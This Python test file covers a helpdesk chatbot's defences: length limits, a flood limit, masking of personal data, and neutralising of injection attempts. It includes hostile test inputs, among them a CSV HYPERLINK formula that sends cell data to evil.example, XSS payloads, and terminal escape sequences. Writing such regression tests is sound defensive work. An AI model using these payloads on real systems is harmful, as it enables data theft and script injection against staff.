"""Fault injection: the attacks and accidents issue 12 found, replayed so they stay fixed, on both backends.

One test (or a few) per defect, named after its number in the issue; so far 2 (values longer than their
columns), 4 (CSV formula injection), 5 (HTML and terminal escapes reaching staff), 6 (a per-user limit shared
by all workers) and 7 (personal data in staff views).
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from bot.channels.telegram_staff import card_text
from bot.config import ROOT
from bot.core import Assistant
from bot.digest import export_csv
from bot.flood import FLOOD_REPLY, FloodLimit
from bot.kb import KnowledgeBase
from bot.matcher import Matcher
from bot.models import Address, Incoming
from bot.neutralize import FORMULA_START, csv_cell, csv_uncell, markdown, terminal
from bot.reports import IsoWeek, build_report, render
from bot.staff import Staff, StaffService
from bot.store import SqlStore, make_engine
from bot.store.queue import TicketQueue
from tests.conftest import BOT_TODAY, Clock, table_count
from tests.test_tickets_cli import desk

ESCALATING = "我们厂的锅炉年检证书丢了，补办要找哪个窗口"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")锅炉年检证书补办'
SCRIPT = "<script>alert(1)</script>锅炉年检证书丢了<img src=x onerror=alert(1)>[点我](javascript:alert(1))"
ESCAPES = "\x1b[2J\x1b[31m锅炉年检证书丢了\x1b]0;owned\x07补办\r找谁"
PERSONAL = "我叫张三，电话13812345678，锅炉年检证书丢了补办找谁"


def ticket_of(assistant: Assistant, user: str, question: str) -> str:
    """Escalate `question` as a console user; the ticket number they are told."""
    address = Address("console", f"chat-{user}")
    replies = assistant.handle(Incoming(address, user, question, message_id=f"{user}-q"))
    if not any(r.ticket_number for r in replies):  # offered suggestions first
        replies = assistant.handle(Incoming(address, user, "转人工", message_id=f"{user}-h"))
    number = next((r.ticket_number for r in replies if r.ticket_number), None)
    assert number, [r.text for r in replies]
    return number


def staff_service(store: SqlStore, clock: Clock, kb: KnowledgeBase) -> StaffService:
    return StaffService(TicketQueue(store), clock=clock, kb=kb)


# ---- 2. values longer than their columns -----------------------------------------------------------------


def test_2_the_longest_values_each_channel_allows_are_stored_alike(assistant: Assistant, store: SqlStore) -> None:
    """A 129-character Telegram name, and ids longer than any channel sends, on SQLite as on PostgreSQL."""
    name = "名" * 64 + " " + "姓" * 64
    telegram = Address("telegram", "8000000001")
    replies = assistant.handle(Incoming(telegram, "8000000001", "社保费能缓缴吗", message_id="1", user_name=name))
    assert replies and "繁忙" not in replies[0].text
    assert store.user("telegram", "8000000001").name == name[:128]

    hostile = "x" * 300
    address = Address("console", hostile)
    first = assistant.handle(Incoming(address, hostile, ESCALATING, message_id="m" * 300))
    again = assistant.handle(Incoming(address, hostile, ESCALATING, message_id="m" * 300))
    assert [r.text for r in again] == [r.text for r in first], "a re-delivery still finds its first replies"
    assert assistant.handle(Incoming(address, hostile, "转人工", message_id="n" * 300))[0].ticket_number
    assert len(store.tickets_of("console", hostile)) == 1


# ---- 4. CSV formula injection ----------------------------------------------------------------------------


def test_4_no_csv_cell_starts_a_formula(
    assistant: Assistant, store: SqlStore, clock: Clock, kb: KnowledgeBase, matcher: Matcher
) -> None:
    """The tickets export and the weekly report CSV, both made for Excel."""
    ticket_of(assistant, "u1", HYPERLINK)
    out = io.StringIO()
    export_csv(staff_service(store, clock, kb).export(Staff("cli", "张三")), out, clock())
    report = build_report(store.engine, kb, matcher, IsoWeek.parse("2020-W12"), BOT_TODAY, clock())
    weekly = render(report, "csv").data.decode("utf-8-sig")
    for text in (out.getvalue(), weekly):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)]
        assert "'" + HYPERLINK in cells
    assert [csv_cell(c + "1") for c in FORMULA_START] == ["'" + c + "1" for c in FORMULA_START]
    assert csv_uncell(str(csv_cell("=1+1"))) == "=1+1" and csv_cell(-3) == -3


# ---- 5. HTML and terminal escapes reaching staff ---------------------------------------------------------


def test_5_user_text_is_inert_in_the_markdown_report(
    assistant: Assistant, store: SqlStore, clock: Clock, kb: KnowledgeBase, matcher: Matcher
) -> None:
    ticket_of(assistant, "u1", SCRIPT)
    report = build_report(store.engine, kb, matcher, IsoWeek.parse("2020-W12"), BOT_TODAY, clock())
    md = render(report, "md").data.decode("utf-8-sig")
    assert "锅炉年检证书丢了" in md
    assert "<script" not in md and "<img" not in md and "[点我](javascript" not in md
    assert markdown("<b>a_b</b>") == r"&lt;b&gt;a\_b&lt;/b&gt;"


def test_5_terminal_escapes_are_not_printed_to_staff(assistant: Assistant, db_url: str, tmp_path: Path) -> None:
    number = ticket_of(assistant, "u1", ESCAPES)
    listing = desk(db_url, "list", cwd=tmp_path)
    shown = desk(db_url, "show", number, cwd=tmp_path)
    assert listing.returncode == shown.returncode == 0
    for out in (listing.stdout, shown.stdout):
        assert "锅炉年检证书丢了" in out and "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert terminal("a\x1b[31mb\tc\n\u202ed") == "a[31mb\tc\nd"


# ---- 6. per-user limit across workers and restarts -------------------------------------------------------


def test_6_one_limit_for_all_workers_and_restarts(
    kb: KnowledgeBase, matcher: Matcher, store: SqlStore, db_url: str, clock: Clock
) -> None:
    """Two workers on one database and a restarted third share one count; a flood opens no ticket."""
    engines = [make_engine(db_url) for _ in range(3)]
    try:
        workers = [
            Assistant(kb, matcher, SqlStore(e), today=lambda: BOT_TODAY, clock=clock, flood=FloodLimit(SqlStore(e), 3))
            for e in engines
        ]
        address = Address("wechat", "oFlood")
        texts = []
        for i in range(12):
            worker = workers[i % 2] if i < 8 else workers[2]
            replies = worker.handle(Incoming(address, "oFlood", f"{ESCALATING}{i}", message_id=str(i)))
            texts.append([r.text for r in replies])
        assert texts[3] == [FLOOD_REPLY] and texts[4:] == [[]] * 8
        assert all(t and t != [FLOOD_REPLY] for t in texts[:3])
        assert len(store.tickets_of("wechat", "oFlood")) <= 3
        clock.advance(seconds=61)
        assert workers[2].handle(Incoming(address, "oFlood", "社保费能缓缴吗", message_id="later"))[0].text
        assert workers[0].handle(Incoming(address, "oFlood", ESCALATING, message_id="0"))[0].text == texts[0][0]
    finally:
        for e in engines:
            e.dispose()


def test_6_the_limit_applies_to_ask_and_the_console(db_url: str, tmp_path: Path) -> None:
    def ask(text: str) -> str:
        env = {k: v for k, v in os.environ.items() if k in ("PATH", "HOME", "LANG")}
        env.update(DATABASE_URL=db_url, BOT_TODAY="2020-03-21", FLOOD_PER_MINUTE="2", PYTHONIOENCODING="utf-8")
        cmd = [sys.executable, str(ROOT / "run_bot.py"), "ask", text, "--user", "flooder"]
        return subprocess.run(cmd, env=env, cwd=tmp_path, capture_output=True, text=True, timeout=120).stdout

    answers = [ask(ESCALATING), ask("转人工"), ask("转人工"), ask("转人工")]
    assert FLOOD_REPLY not in answers[0] + answers[1]
    assert FLOOD_REPLY in answers[2] and FLOOD_REPLY not in answers[3]
    assert table_count(db_url, "tickets") == 1


# ---- 7. personal data in staff views ---------------------------------------------------------------------


def test_7_staff_views_mask_personal_data_and_the_handler_reveal_is_recorded(
    assistant: Assistant, store: SqlStore, clock: Clock, kb: KnowledgeBase
) -> None:
    number = ticket_of(assistant, "u1", PERSONAL)
    svc = staff_service(store, clock, kb)
    zhang, li = Staff("cli", "张三"), Staff("cli", "李四")
    (listed,) = svc.list_queue(zhang)
    exported = io.StringIO()
    export_csv(svc.export(zhang), exported, clock())
    card = card_text(TicketQueue(store).get(number), kb, clock())  # type: ignore[arg-type]
    for view in (listed.question, exported.getvalue(), card, svc.show(zhang, number).ticket.question):
        assert "13812345678" not in view and "张三" not in view and "138****5678" in view
    svc.claim(zhang, number)
    assert "13812345678" not in svc.show(li, number).ticket.question, "only the handler sees it whole"
    assert "13812345678" in svc.show(zhang, number).ticket.question
    events = TicketQueue(store).events(listed.id)
    assert [(e.actor, e.action) for e in events][-1] == ("张三", "查看个人信息")
